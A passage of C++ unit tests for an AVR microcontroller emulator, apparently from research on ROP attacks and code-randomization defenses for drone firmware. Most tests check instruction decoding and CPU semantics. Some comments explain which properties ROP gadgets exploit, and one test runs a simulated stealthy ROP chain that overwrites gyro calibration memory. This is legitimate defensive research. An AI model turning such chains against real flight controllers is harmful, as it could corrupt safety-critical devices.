        Instr in = decode(enc_ldd(reg, y, q), 0);
        ASSERT_EQ(in.op, y ? Op::LddY : Op::LddZ);
        ASSERT_EQ(in.rd, reg);
        ASSERT_EQ(in.k, q);
        in = decode(enc_std(y, q, reg), 0);
        ASSERT_EQ(in.op, y ? Op::StdY : Op::StdZ);
        ASSERT_EQ(in.rd, reg);
        ASSERT_EQ(in.k, q);
      }
    }
  }
}

TEST(DecodeRoundTrip, IndirectLoadStore) {
  for (Op op : {Op::LdX, Op::LdXInc, Op::LdXDec, Op::LdYInc, Op::LdYDec,
                Op::LdZInc, Op::LdZDec, Op::StX, Op::StXInc, Op::StXDec,
                Op::StYInc, Op::StYDec, Op::StZInc, Op::StZDec}) {
    for (unsigned reg = 0; reg < 32; reg += 5) {
      const Instr in = decode(enc_ld_st(op, reg), 0);
      ASSERT_EQ(in.op, op);
      ASSERT_EQ(in.rd, reg);
    }
  }
}

TEST(DecodeRoundTrip, RelativeJumps) {
  for (std::int32_t offset : {-2048, -100, -1, 0, 1, 512, 2047}) {
    Instr in = decode(enc_rel_jump(Op::Rjmp, offset), 0);
    ASSERT_EQ(in.op, Op::Rjmp);
    ASSERT_EQ(in.target, offset);
    in = decode(enc_rel_jump(Op::Rcall, offset), 0);
    ASSERT_EQ(in.op, Op::Rcall);
    ASSERT_EQ(in.target, offset);
  }
  EXPECT_THROW(enc_rel_jump(Op::Rjmp, 2048), support::PreconditionError);
  EXPECT_THROW(enc_rel_jump(Op::Rjmp, -2049), support::PreconditionError);
}

TEST(DecodeRoundTrip, AbsoluteJumps) {
  // 22-bit range covers the full 128 Kword ATmega2560 space and beyond.
  for (std::uint32_t target : {0u, 1u, 0xFFFFu, 0x10000u, 0x1FFFFu,
                               0x3FFFFFu}) {
    auto [w1, w2] = enc_abs_jump(Op::Jmp, target);
    Instr in = decode(w1, w2);
    ASSERT_EQ(in.op, Op::Jmp);
    ASSERT_EQ(static_cast<std::uint32_t>(in.target), target);
    ASSERT_EQ(in.size_words, 2);
    auto [c1, c2] = enc_abs_jump(Op::Call, target);
    in = decode(c1, c2);
    ASSERT_EQ(in.op, Op::Call);
    ASSERT_EQ(static_cast<std::uint32_t>(in.target), target);
  }
}

TEST(DecodeRoundTrip, RetargetingPreservesOpcode) {
  auto [w1, w2] = enc_abs_jump(Op::Call, 0x1234);
  auto [n1, n2] = retarget_abs_jump(w1, 0x1ABCD);
  const Instr in = decode(n1, n2);
  EXPECT_EQ(in.op, Op::Call);
  EXPECT_EQ(static_cast<std::uint32_t>(in.target), 0x1ABCDu);
  EXPECT_THROW(retarget_abs_jump(enc_push(0), 0), support::PreconditionError);
}

TEST(DecodeRoundTrip, Branches) {
  for (unsigned bit = 0; bit < 8; ++bit) {
    for (std::int32_t offset : {-64, -1, 0, 33, 63}) {
      Instr in = decode(enc_branch(Op::Brbs, bit, offset), 0);
      ASSERT_EQ(in.op, Op::Brbs);
      ASSERT_EQ(in.bit, bit);
      ASSERT_EQ(in.target, offset);
      in = decode(enc_branch(Op::Brbc, bit, offset), 0);
      ASSERT_EQ(in.op, Op::Brbc);
      ASSERT_EQ(in.target, offset);
    }
  }
  EXPECT_THROW(enc_branch(Op::Brbs, 1, 64), support::PreconditionError);
}

TEST(DecodeRoundTrip, SkipsAndBitOps) {
  for (unsigned bit = 0; bit < 8; ++bit) {
    ASSERT_EQ(decode(enc_skip_reg(Op::Sbrc, 7, bit), 0).op, Op::Sbrc);
    ASSERT_EQ(decode(enc_skip_reg(Op::Sbrs, 7, bit), 0).bit, bit);
    ASSERT_EQ(decode(enc_skip_io(Op::Sbic, 21, bit), 0).op, Op::Sbic);
    ASSERT_EQ(decode(enc_skip_io(Op::Sbis, 21, bit), 0).k, 21);
    ASSERT_EQ(decode(enc_sbi_cbi(Op::Sbi, 13, bit), 0).op, Op::Sbi);
    ASSERT_EQ(decode(enc_sbi_cbi(Op::Cbi, 13, bit), 0).bit, bit);
    ASSERT_EQ(decode(enc_bset_bclr(Op::Bset, bit), 0).op, Op::Bset);
    ASSERT_EQ(decode(enc_bset_bclr(Op::Bclr, bit), 0).bit, bit);
    ASSERT_EQ(decode(enc_bst_bld(Op::Bst, 4, bit), 0).op, Op::Bst);
    ASSERT_EQ(decode(enc_bst_bld(Op::Bld, 4, bit), 0).op, Op::Bld);
  }
}

TEST(DecodeRoundTrip, NoOperandOps) {
  for (Op op : {Op::Nop, Op::Ijmp, Op::Eijmp, Op::Ret, Op::Icall, Op::Reti,
                Op::Eicall, Op::Sleep, Op::Break, Op::Wdr, Op::Spm}) {
    ASSERT_EQ(decode(enc_no_operand(op), 0).op, op);
  }
}

TEST(DecodeRoundTrip, LpmFamily) {
  ASSERT_EQ(decode(enc_lpm(Op::LpmR0, 0), 0).op, Op::LpmR0);
  ASSERT_EQ(decode(enc_lpm(Op::ElpmR0, 0), 0).op, Op::ElpmR0);
  for (unsigned reg = 0; reg < 32; reg += 3) {
    ASSERT_EQ(decode(enc_lpm(Op::Lpm, reg), 0).rd, reg);
    ASSERT_EQ(decode(enc_lpm(Op::LpmInc, reg), 0).op, Op::LpmInc);
    ASSERT_EQ(decode(enc_lpm(Op::Elpm, reg), 0).op, Op::Elpm);
    ASSERT_EQ(decode(enc_lpm(Op::ElpmInc, reg), 0).op, Op::ElpmInc);
  }
}

TEST(Decode, TwoWordDetection) {
  EXPECT_TRUE(avr::is_two_word(enc_lds(0, 0x100).first));
  EXPECT_TRUE(avr::is_two_word(enc_sts(0x100, 0).first));
  EXPECT_TRUE(avr::is_two_word(enc_abs_jump(Op::Jmp, 5).first));
  EXPECT_TRUE(avr::is_two_word(enc_abs_jump(Op::Call, 5).first));
  EXPECT_FALSE(avr::is_two_word(enc_push(3)));
  EXPECT_FALSE(avr::is_two_word(enc_rel_jump(Op::Rjmp, 1)));
  EXPECT_FALSE(avr::is_two_word(0x0000));  // nop
}

TEST(Decode, ReservedEncodingsAreInvalid) {
  EXPECT_EQ(decode(0x0001, 0).op, Op::Invalid);   // reserved
  EXPECT_EQ(decode(0x9404, 0).op, Op::Invalid);   // reserved one-reg slot
  EXPECT_EQ(decode(0xFF08, 0).op, Op::Invalid);   // sbrs with bit 3 set high
}

}  // namespace
}  // namespace mavr
