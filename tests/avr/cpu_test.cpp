// AVR CPU execution semantics: ALU flags, the memory-mapped register file
// and stack pointer (what the paper's gadgets exploit), 3-byte call frames,
// control flow, skips and program-memory access.
#include <gtest/gtest.h>

#include "avr/cpu.hpp"
#include "toolchain/encode.hpp"

namespace mavr {
namespace {

using avr::Cpu;
using avr::CpuState;
using avr::Op;
using namespace mavr::toolchain;

/// Loads raw words as a program at address 0 and returns a fresh core.
class CpuTest : public ::testing::Test {
 protected:
  CpuTest() : cpu_(avr::atmega2560()) {}

  void load(std::initializer_list<std::uint16_t> words) {
    support::Bytes bytes;
    for (std::uint16_t w : words) {
      bytes.push_back(static_cast<std::uint8_t>(w & 0xFF));
      bytes.push_back(static_cast<std::uint8_t>(w >> 8));
    }
    cpu_.flash().erase();
    cpu_.flash().program(bytes);
    cpu_.reset();
  }

  void step(int n = 1) {
    for (int i = 0; i < n; ++i) cpu_.step();
  }

  Cpu cpu_;
};

TEST_F(CpuTest, ResetState) {
  load({0x0000});
  EXPECT_EQ(cpu_.pc(), 0u);
  EXPECT_EQ(cpu_.sp(), 0x21FF);
  EXPECT_EQ(cpu_.sreg(), 0);
  EXPECT_EQ(cpu_.state(), CpuState::Running);
}

TEST_F(CpuTest, AddSetsCarryAndZero) {
  load({enc_imm(Op::Ldi, 24, 0xFF), enc_imm(Op::Ldi, 25, 0x01),
        enc_two_reg(Op::Add, 24, 25)});
  step(3);
  EXPECT_EQ(cpu_.reg(24), 0x00);
  EXPECT_TRUE(cpu_.flag(avr::kC));
  EXPECT_TRUE(cpu_.flag(avr::kZ));
  EXPECT_FALSE(cpu_.flag(avr::kN));
}

TEST_F(CpuTest, AddSignedOverflowSetsV) {
  load({enc_imm(Op::Ldi, 24, 0x7F), enc_imm(Op::Ldi, 25, 0x01),
        enc_two_reg(Op::Add, 24, 25)});
  step(3);
  EXPECT_EQ(cpu_.reg(24), 0x80);
  EXPECT_TRUE(cpu_.flag(avr::kV));
  EXPECT_TRUE(cpu_.flag(avr::kN));
  EXPECT_FALSE(cpu_.flag(avr::kS));  // S = N ^ V
  EXPECT_TRUE(cpu_.flag(avr::kH));   // carry out of bit 3
}

TEST_F(CpuTest, AdcPropagatesCarry) {
  load({enc_imm(Op::Ldi, 24, 0xFF), enc_imm(Op::Ldi, 25, 0x01),
        enc_imm(Op::Ldi, 26, 0x10), enc_imm(Op::Ldi, 27, 0x00),
        enc_two_reg(Op::Add, 24, 25),    // FF+01 -> 00, C=1
        enc_two_reg(Op::Adc, 26, 27)});  // 10+00+C -> 11
  step(6);
  EXPECT_EQ(cpu_.reg(26), 0x11);
  EXPECT_FALSE(cpu_.flag(avr::kC));
}

TEST_F(CpuTest, SubAndCompareBorrow) {
  load({enc_imm(Op::Ldi, 24, 0x05), enc_imm(Op::Ldi, 25, 0x0A),
        enc_two_reg(Op::Sub, 24, 25)});
  step(3);
  EXPECT_EQ(cpu_.reg(24), 0xFB);
  EXPECT_TRUE(cpu_.flag(avr::kC));  // borrow
  EXPECT_TRUE(cpu_.flag(avr::kN));
}

TEST_F(CpuTest, SbcOnlyClearsZ) {
  // 16-bit compare idiom: low bytes equal sets Z; SBC of equal highs with
  // no borrow must KEEP Z (not set it afresh).
  load({enc_imm(Op::Ldi, 24, 0x01), enc_imm(Op::Ldi, 25, 0x01),
        enc_two_reg(Op::Sub, 24, 25),   // Z=1, C=0
        enc_imm(Op::Ldi, 26, 0x05), enc_imm(Op::Ldi, 27, 0x04),
        enc_two_reg(Op::Sbc, 26, 27)});  // 5-4-0 = 1 -> Z must clear
  step(6);
  EXPECT_FALSE(cpu_.flag(avr::kZ));

  load({enc_imm(Op::Ldi, 24, 0x01), enc_imm(Op::Ldi, 25, 0x01),
        enc_two_reg(Op::Sub, 24, 25),   // Z=1
        enc_imm(Op::Ldi, 26, 0x04), enc_imm(Op::Ldi, 27, 0x04),
        enc_two_reg(Op::Sbc, 26, 27)});  // 4-4-0 = 0 -> Z stays set
  step(6);
  EXPECT_TRUE(cpu_.flag(avr::kZ));
}

TEST_F(CpuTest, LogicClearsV) {
  load({enc_imm(Op::Ldi, 24, 0xF0), enc_imm(Op::Ldi, 25, 0x0F),
        enc_two_reg(Op::Or, 24, 25)});
  step(3);
  EXPECT_EQ(cpu_.reg(24), 0xFF);
  EXPECT_FALSE(cpu_.flag(avr::kV));
  EXPECT_TRUE(cpu_.flag(avr::kN));
  EXPECT_TRUE(cpu_.flag(avr::kS));
}

TEST_F(CpuTest, ComSetsCarry) {
  load({enc_imm(Op::Ldi, 24, 0x55), enc_one_reg(Op::Com, 24)});
  step(2);
  EXPECT_EQ(cpu_.reg(24), 0xAA);
  EXPECT_TRUE(cpu_.flag(avr::kC));
}

TEST_F(CpuTest, NegOfZero) {
  load({enc_imm(Op::Ldi, 24, 0x00), enc_one_reg(Op::Neg, 24)});
  step(2);
  EXPECT_EQ(cpu_.reg(24), 0x00);
  EXPECT_FALSE(cpu_.flag(avr::kC));
  EXPECT_TRUE(cpu_.flag(avr::kZ));
}

TEST_F(CpuTest, IncDecPreserveCarry) {
  load({enc_imm(Op::Ldi, 24, 0xFF), enc_imm(Op::Ldi, 25, 0x01),
        enc_two_reg(Op::Add, 24, 25),  // C=1
        enc_one_reg(Op::Inc, 24)});
  step(4);
  EXPECT_EQ(cpu_.reg(24), 0x01);
  EXPECT_TRUE(cpu_.flag(avr::kC));  // INC must not clobber C
}

TEST_F(CpuTest, ShiftsAndRotate) {
  load({enc_imm(Op::Ldi, 24, 0x81), enc_one_reg(Op::Lsr, 24),
        enc_one_reg(Op::Ror, 24)});
  step(2);
  EXPECT_EQ(cpu_.reg(24), 0x40);
  EXPECT_TRUE(cpu_.flag(avr::kC));  // bit0 of 0x81
  step(1);                          // ROR pulls C into bit 7
  EXPECT_EQ(cpu_.reg(24), 0xA0);
  EXPECT_FALSE(cpu_.flag(avr::kC));
}

TEST_F(CpuTest, AsrKeepsSign) {
  load({enc_imm(Op::Ldi, 24, 0x84), enc_one_reg(Op::Asr, 24)});
  step(2);
  EXPECT_EQ(cpu_.reg(24), 0xC2);
}

TEST_F(CpuTest, MulWritesR1R0) {
  load({enc_imm(Op::Ldi, 24, 200), enc_imm(Op::Ldi, 25, 3),
        enc_two_reg(Op::Mul, 24, 25)});
  step(3);
  EXPECT_EQ(cpu_.reg(0), (200 * 3) & 0xFF);
  EXPECT_EQ(cpu_.reg(1), (200 * 3) >> 8);
}

TEST_F(CpuTest, AdiwSbiwSixteenBit) {
  load({enc_imm(Op::Ldi, 28, 0xFE), enc_imm(Op::Ldi, 29, 0x00),
        enc_adiw(Op::Adiw, 28, 5), enc_adiw(Op::Sbiw, 28, 3)});
  step(3);
  EXPECT_EQ(cpu_.reg_pair(28), 0x0103);
  step(1);
  EXPECT_EQ(cpu_.reg_pair(28), 0x0100);
}

TEST_F(CpuTest, MovwMovesPair) {
  load({enc_imm(Op::Ldi, 30, 0x34), enc_imm(Op::Ldi, 31, 0x12),
        enc_movw(28, 30)});
  step(3);
  EXPECT_EQ(cpu_.reg_pair(28), 0x1234);
}

// --- The properties the attacks rest on -------------------------------------

TEST_F(CpuTest, RegisterFileIsMemoryMapped) {
  // STD Y+q can write the register file — the basis of write_mem's power.
  load({enc_imm(Op::Ldi, 28, 0x00), enc_imm(Op::Ldi, 29, 0x00),
        enc_imm(Op::Ldi, 20, 0x77), enc_std(true, 5, 20)});
  step(4);
  EXPECT_EQ(cpu_.reg(5), 0x77);  // wrote data address 5 = r5
}

TEST_F(CpuTest, OutToSpMovesTheStackPointer) {
  // The stk_move gadget body: out SPH/SPL from r29:r28.
  load({enc_imm(Op::Ldi, 28, 0x80), enc_imm(Op::Ldi, 29, 0x21),
        enc_out(avr::kIoSph, 29), enc_out(avr::kIoSpl, 28)});
  step(4);
  EXPECT_EQ(cpu_.sp(), 0x2180);
}

TEST_F(CpuTest, SregIsMemoryMapped) {
  load({enc_imm(Op::Ldi, 24, 0xFF), enc_out(avr::kIoSreg, 24)});
  step(2);
  EXPECT_EQ(cpu_.sreg(), 0xFF);
  EXPECT_TRUE(cpu_.flag(avr::kZ));
}

TEST_F(CpuTest, CallPushesThreeBytesBigEndian) {
  load({enc_abs_jump(Op::Call, 0x15A7C / 2).first,
        enc_abs_jump(Op::Call, 0x15A7C / 2).second});
  const std::uint16_t sp0 = cpu_.sp();
  step(1);
  EXPECT_EQ(cpu_.pc(), 0x15A7Cu / 2);
  EXPECT_EQ(cpu_.sp(), sp0 - 3);
  // Return address 0x000002 (words), big-endian toward ascending memory.
  EXPECT_EQ(cpu_.data().raw(sp0 - 2), 0x00);
  EXPECT_EQ(cpu_.data().raw(sp0 - 1), 0x00);
  EXPECT_EQ(cpu_.data().raw(sp0), 0x02);
}

TEST_F(CpuTest, RetPopsThreeBytes) {
  // Craft a return address on the stack by hand, the ROP way.
  load({enc_no_operand(Op::Ret)});
  cpu_.set_sp(0x21F0);
  cpu_.data().set_raw(0x21F1, 0x01);  // bits 16..23
  cpu_.data().set_raw(0x21F2, 0x5D);  // high byte
  cpu_.data().set_raw(0x21F3, 0x64);  // low byte
  step(1);
  EXPECT_EQ(cpu_.pc(), 0x15D64u);
  EXPECT_EQ(cpu_.sp(), 0x21F3);
}

TEST_F(CpuTest, RetKeepsRawReturnAddressForForensics) {
  // Regression: pop_pc masked the popped value before anyone saw it, so a
  // smashed frame whose third byte pointed past the end of flash was
  // indistinguishable from a legitimate return after wrapping. The
  // architectural PC must still wrap, but the raw bytes are now preserved
  // for the tracer and carried into any subsequent fault record.
  load({enc_no_operand(Op::Ret),  // 0: returns "to" 0x20001 -> wraps to 1
        0x0001});                 // 1: reserved encoding, faults
  cpu_.set_sp(0x21F0);
  cpu_.data().set_raw(0x21F1, 0x02);  // bits 16..23: above the 128K-word mask
  cpu_.data().set_raw(0x21F2, 0x00);
  cpu_.data().set_raw(0x21F3, 0x01);
  step(1);
  EXPECT_EQ(cpu_.pc(), 1u);  // masked semantics unchanged
  EXPECT_EQ(cpu_.last_ret_raw_words(), 0x20001u);
  EXPECT_TRUE(cpu_.last_ret_wrapped());
  step(1);  // invalid opcode at the wrapped target
  ASSERT_EQ(cpu_.state(), CpuState::Faulted);
  EXPECT_EQ(cpu_.fault().last_ret_raw_words, 0x20001u);
  EXPECT_TRUE(cpu_.fault().last_ret_wrapped);
  EXPECT_GT(cpu_.fault().cycle, 0u);
}

TEST_F(CpuTest, InRangeRetReportsUnwrapped) {
  load({enc_no_operand(Op::Ret)});
  cpu_.set_sp(0x21F0);
  cpu_.data().set_raw(0x21F1, 0x01);
  cpu_.data().set_raw(0x21F2, 0x5D);
  cpu_.data().set_raw(0x21F3, 0x64);
  step(1);
  EXPECT_EQ(cpu_.last_ret_raw_words(), 0x15D64u);
  EXPECT_FALSE(cpu_.last_ret_wrapped());
}

TEST_F(CpuTest, PushPopRoundTrip) {
  load({enc_imm(Op::Ldi, 24, 0xAB), enc_push(24), enc_pop(25)});
  step(3);
  EXPECT_EQ(cpu_.reg(25), 0xAB);
  EXPECT_EQ(cpu_.sp(), 0x21FF);
}

TEST_F(CpuTest, RcallRoundTrip) {
  load({enc_rel_jump(Op::Rcall, 2),   // 0: call to word 3
        0x0000,                        // 1
        enc_no_operand(Op::Break),     // 2: lands here after ret
        enc_no_operand(Op::Ret)});     // 3: callee
  step(2);  // rcall, ret
  EXPECT_EQ(cpu_.pc(), 1u);
  step(2);  // nop, break
  EXPECT_EQ(cpu_.state(), CpuState::Stopped);
}

TEST_F(CpuTest, IjmpUsesZ) {
  load({enc_imm(Op::Ldi, 30, 0x05), enc_imm(Op::Ldi, 31, 0x00),
        enc_no_operand(Op::Ijmp)});
  step(3);
  EXPECT_EQ(cpu_.pc(), 5u);
}

TEST_F(CpuTest, EicallUsesEindAndZ) {
  load({enc_imm(Op::Ldi, 24, 0x01), enc_out(avr::kIoEind, 24),
        enc_imm(Op::Ldi, 30, 0x10), enc_imm(Op::Ldi, 31, 0x00),
        enc_no_operand(Op::Eicall)});
  step(5);
  EXPECT_EQ(cpu_.pc(), 0x10010u);
  EXPECT_EQ(cpu_.sp(), 0x21FF - 3);
}

TEST_F(CpuTest, BranchTakenAndNotTaken) {
  load({enc_imm(Op::Ldi, 24, 1), enc_imm(Op::Ldi, 25, 1),
        enc_two_reg(Op::Cp, 24, 25),       // equal -> Z
        enc_branch(Op::Brbs, avr::kZ, 1),  // breq +1
        enc_no_operand(Op::Break),         // skipped
        enc_no_operand(Op::Nop)});
  step(4);
  EXPECT_EQ(cpu_.pc(), 5u);
  EXPECT_EQ(cpu_.state(), CpuState::Running);
}

TEST_F(CpuTest, SkipOverTwoWordInstruction) {
  // SBRS must skip the whole 2-word CALL that follows.
  load({enc_imm(Op::Ldi, 24, 0x80),
        enc_skip_reg(Op::Sbrs, 24, 7),           // bit set -> skip call
        enc_abs_jump(Op::Call, 0x100).first,
        enc_abs_jump(Op::Call, 0x100).second,
        enc_no_operand(Op::Break)});
  step(3);
  EXPECT_EQ(cpu_.state(), CpuState::Stopped);  // reached break, call skipped
}

TEST_F(CpuTest, CpseSkips) {
  load({enc_imm(Op::Ldi, 24, 7), enc_imm(Op::Ldi, 25, 7),
        enc_two_reg(Op::Cpse, 24, 25), enc_no_operand(Op::Break),
        enc_no_operand(Op::Nop)});
  step(4);
  EXPECT_EQ(cpu_.state(), CpuState::Running);
  EXPECT_EQ(cpu_.pc(), 5u);
}

TEST_F(CpuTest, LpmReadsFlashBytes) {
  load({enc_imm(Op::Ldi, 30, 0x00), enc_imm(Op::Ldi, 31, 0x00),
        enc_lpm(Op::LpmInc, 24), enc_lpm(Op::Lpm, 25)});
  step(4);
  // Word 0 is "ldi r30, 0" = 0xE0E0; low byte first.
  EXPECT_EQ(cpu_.reg(24), 0xE0);
  EXPECT_EQ(cpu_.reg(25), 0xE0);
  EXPECT_EQ(cpu_.reg_pair(30), 1u);
}

TEST_F(CpuTest, LdsStsRoundTrip) {
  load({enc_imm(Op::Ldi, 24, 0x5A), enc_sts(0x0300, 24).first,
        enc_sts(0x0300, 24).second, enc_lds(25, 0x0300).first,
        enc_lds(25, 0x0300).second});
  step(3);
  EXPECT_EQ(cpu_.reg(25), 0x5A);
  EXPECT_EQ(cpu_.data().raw(0x0300), 0x5A);
}

TEST_F(CpuTest, IndirectAddressingPostIncrement) {
  load({enc_imm(Op::Ldi, 26, 0x00), enc_imm(Op::Ldi, 27, 0x03),
        enc_imm(Op::Ldi, 20, 0x11), enc_ld_st(Op::StXInc, 20),
        enc_imm(Op::Ldi, 20, 0x22), enc_ld_st(Op::StXInc, 20)});
  step(6);
  EXPECT_EQ(cpu_.data().raw(0x0300), 0x11);
  EXPECT_EQ(cpu_.data().raw(0x0301), 0x22);
  EXPECT_EQ(cpu_.reg_pair(26), 0x0302);
}

TEST_F(CpuTest, InvalidOpcodeFaults) {
  load({0x0001});  // reserved encoding
  step(1);
  EXPECT_EQ(cpu_.state(), CpuState::Faulted);
  EXPECT_EQ(cpu_.fault().pc_words, 0u);
  EXPECT_NE(cpu_.fault().reason.find("invalid opcode"), std::string::npos);
  // A faulted core does not execute further.
  const std::uint64_t cycles = cpu_.cycles();
  step(5);
  EXPECT_EQ(cpu_.cycles(), cycles);
}

TEST_F(CpuTest, RunStopsAtBudget) {
  load({enc_rel_jump(Op::Rjmp, -1)});  // spin forever
  const std::uint64_t used = cpu_.run(1000);
  EXPECT_GE(used, 1000u);
  EXPECT_LE(used, 1002u);
  EXPECT_EQ(cpu_.state(), CpuState::Running);
}

TEST_F(CpuTest, CycleCounting) {
  load({0x0000, enc_push(0), enc_pop(0), enc_abs_jump(Op::Jmp, 6).first,
        enc_abs_jump(Op::Jmp, 6).second});
  step(1);
  EXPECT_EQ(cpu_.cycles(), 1u);  // nop
  step(1);
  EXPECT_EQ(cpu_.cycles(), 3u);  // push = 2
  step(1);
  EXPECT_EQ(cpu_.cycles(), 5u);  // pop = 2
  step(1);
  EXPECT_EQ(cpu_.cycles(), 8u);  // jmp = 3
}

TEST_F(CpuTest, BstBldMoveBitsThroughT) {
  load({enc_imm(Op::Ldi, 24, 0x08), enc_bst_bld(Op::Bst, 24, 3),
        enc_imm(Op::Ldi, 25, 0x00), enc_bst_bld(Op::Bld, 25, 6)});
  step(4);
  EXPECT_EQ(cpu_.reg(25), 0x40);
}

TEST_F(CpuTest, FlashWriteInvalidatesDecodeCache) {
  load({0x0000, 0x0000});
  step(1);
  // Reprogram word 1 to BREAK after it was (potentially) decoded.
  support::Bytes page(cpu_.spec().flash_page_bytes, 0xFF);
  page[2] = static_cast<std::uint8_t>(enc_no_operand(Op::Break) & 0xFF);
  page[3] = static_cast<std::uint8_t>(enc_no_operand(Op::Break) >> 8);
  cpu_.flash().program_page(0, page);
  cpu_.set_pc(1);
  step(1);
  EXPECT_EQ(cpu_.state(), CpuState::Stopped);
}

}  // namespace
}  // namespace mavr
