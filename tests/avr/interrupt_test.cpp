// Interrupt delivery: AVR semantics at the core level, the firmware's
// timer ISR, vector patching under randomization, and the property that
// the stealthy ROP chain survives ISRs firing mid-chain (ISRs only write
// below SP, which the chain has already consumed).
#include <gtest/gtest.h>

#include "attack/attacks.hpp"
#include "avr/cpu.hpp"
#include "avr/timer.hpp"
#include "defense/patcher.hpp"
#include "firmware/generator.hpp"
#include "firmware/profile.hpp"
#include "sim/board.hpp"
#include "sim/ground.hpp"
#include "toolchain/encode.hpp"

namespace mavr {
namespace {

using avr::Cpu;
using avr::Op;
using namespace mavr::toolchain;

TEST(Interrupts, DeliveredOnlyWithIFlagSet) {
  Cpu cpu(avr::atmega2560());
  bool pending = true;
  cpu.set_irq_line(
      4,
      [](void* p) {
        const bool was = *static_cast<bool*>(p);
        *static_cast<bool*>(p) = false;
        return was;
      },
      &pending);
  support::Bytes image;
  for (int i = 0; i < 64; ++i) {
    image.push_back(0x00);
    image.push_back(0x00);  // nops
  }
  cpu.flash().program(image);
  cpu.reset();
  // I clear: no delivery.
  cpu.run(20);
  EXPECT_EQ(cpu.interrupts_taken(), 0u);
  EXPECT_TRUE(pending);
  // Set I: next instruction boundary delivers to vector slot 4 (word 8).
  cpu.set_sreg(static_cast<std::uint8_t>(1u << avr::kI));
  const std::uint16_t sp0 = cpu.sp();
  cpu.step();
  EXPECT_EQ(cpu.interrupts_taken(), 1u);
  EXPECT_EQ(cpu.pc(), 8u);
  EXPECT_EQ(cpu.sp(), sp0 - 3);           // 3-byte return address pushed
  EXPECT_FALSE(cpu.flag(avr::kI));        // I cleared on entry
  EXPECT_FALSE(pending);                  // line acked
}

TEST(Interrupts, RetiResumesAndReenables) {
  Cpu cpu(avr::atmega2560());
  bool pending = true;
  cpu.set_irq_line(
      4,
      [](void* p) {
        const bool was = *static_cast<bool*>(p);
        *static_cast<bool*>(p) = false;
        return was;
      },
      &pending);
  // Word 0..7: nops; vector slot 4 at word 8: reti.
  std::vector<std::uint16_t> words(16, 0x0000);
  words[8] = enc_no_operand(Op::Reti);
  support::Bytes image;
  for (std::uint16_t w : words) {
    image.push_back(static_cast<std::uint8_t>(w & 0xFF));
    image.push_back(static_cast<std::uint8_t>(w >> 8));
  }
  cpu.flash().program(image);
  cpu.reset();
  cpu.set_sreg(static_cast<std::uint8_t>(1u << avr::kI));
  cpu.step();  // nop at 0, then IRQ -> pc 8
  ASSERT_EQ(cpu.pc(), 8u);
  cpu.step();  // reti
  EXPECT_EQ(cpu.pc(), 1u);  // resumed after the interrupted nop
  EXPECT_TRUE(cpu.flag(avr::kI));
  EXPECT_EQ(cpu.sp(), avr::atmega2560().ramend());
}

TEST(Interrupts, TimerFiresPeriodically) {
  Cpu cpu(avr::atmega2560());
  avr::Timer timer(cpu.io(), 1000);
  support::Bytes nops(8192, 0x00);
  cpu.flash().program(nops);
  cpu.reset();
  cpu.run(5000);
  EXPECT_GE(timer.fires(), 4u);
  EXPECT_LE(timer.fires(), 6u);
}

TEST(Interrupts, FirmwareTickCounterAdvances) {
  const firmware::Firmware fw = firmware::generate(
      firmware::testapp(false), toolchain::ToolchainOptions::mavr());
  sim::Board board;
  board.flash_image(fw.image.bytes);
  board.run_cycles(1'000'000);
  ASSERT_EQ(board.cpu().state(), avr::CpuState::Running);
  EXPECT_GT(board.cpu().interrupts_taken(), 50u);
  const toolchain::DataSymbol* ticks = fw.image.find_data("g_ticks");
  ASSERT_NE(ticks, nullptr);
  const std::uint16_t count = static_cast<std::uint16_t>(
      board.cpu().data().raw(ticks->ram_addr) |
      (board.cpu().data().raw(ticks->ram_addr + 1) << 8));
  // ~1M cycles / 10k per tick = ~100 ticks.
  EXPECT_NEAR(count, 100, 15);
}

TEST(Interrupts, IsrVectorIsPatchedUnderRandomization) {
  const firmware::Firmware fw = firmware::generate(
      firmware::testapp(false), toolchain::ToolchainOptions::mavr());
  const toolchain::SymbolBlob blob =
      toolchain::SymbolBlob::from_image(fw.image);
  support::Rng rng(0x157);
  const defense::RandomizeResult result =
      defense::randomize_image(fw.image.bytes, blob, rng);

  auto ticks_after = [&](std::span<const std::uint8_t> image) {
    sim::Board board;
    board.flash_image(image);
    board.run_cycles(1'500'000);
    EXPECT_EQ(board.cpu().state(), avr::CpuState::Running);
    const toolchain::DataSymbol* ticks = fw.image.find_data("g_ticks");
    return static_cast<std::uint16_t>(
        board.cpu().data().raw(ticks->ram_addr) |
        (board.cpu().data().raw(ticks->ram_addr + 1) << 8));
  };
  // Identical interrupt cadence despite the ISR block having moved.
  EXPECT_EQ(ticks_after(fw.image.bytes), ticks_after(result.image));
  EXPECT_GT(ticks_after(result.image), 100u);
}

TEST(Interrupts, StealthyAttackSurvivesIsrMidChain) {
  // The timer fires every 10k cycles; the V2 chain takes far longer than
  // that to deliver and execute, so ISRs *will* interleave with it. The
  // chain must still land its write and return cleanly — ISR pushes go
  // below SP, into already-consumed chain bytes.
  const firmware::Firmware fw = firmware::generate(
      firmware::testapp(true), toolchain::ToolchainOptions::mavr());
  const attack::AttackPlan plan = attack::analyze(fw.image);

  sim::Board board;
  board.flash_image(fw.image.bytes);
  board.run_cycles(300'000);
  sim::GroundStation gcs(board);

  const std::uint64_t irqs_before = board.cpu().interrupts_taken();
  const attack::Write3 write{plan.gyro_cal_addr, {0x55, 0xAA, 0x00}};
  gcs.send_raw_param_set(plan.builder().v2_payload({write}));
  board.run_cycles(4'000'000);

  EXPECT_GT(board.cpu().interrupts_taken(), irqs_before + 100);
  EXPECT_EQ(board.cpu().data().raw(plan.gyro_cal_addr), 0x55);
  EXPECT_EQ(board.cpu().data().raw(plan.gyro_cal_addr + 1), 0xAA);
  EXPECT_EQ(board.cpu().state(), avr::CpuState::Running);
  const std::uint64_t feeds = board.feed_line().write_count();
  board.run_cycles(500'000);
  EXPECT_GT(board.feed_line().write_count(), feeds);
}

TEST(Interrupts, LowestVectorWinsWhenMultiplePending) {
  Cpu cpu(avr::atmega2560());
  bool hi_pending = true, lo_pending = true;
  cpu.set_irq_line(
      9,
      [](void* p) {
        const bool was = *static_cast<bool*>(p);
        *static_cast<bool*>(p) = false;
        return was;
      },
      &hi_pending);
  cpu.set_irq_line(
      3,
      [](void* p) {
        const bool was = *static_cast<bool*>(p);
        *static_cast<bool*>(p) = false;
        return was;
      },
      &lo_pending);
  support::Bytes nops(64, 0x00);
  cpu.flash().program(nops);
  cpu.reset();
  cpu.set_sreg(static_cast<std::uint8_t>(1u << avr::kI));
  cpu.step();
  EXPECT_EQ(cpu.pc(), 6u);  // slot 3 dispatched first
  EXPECT_FALSE(lo_pending);
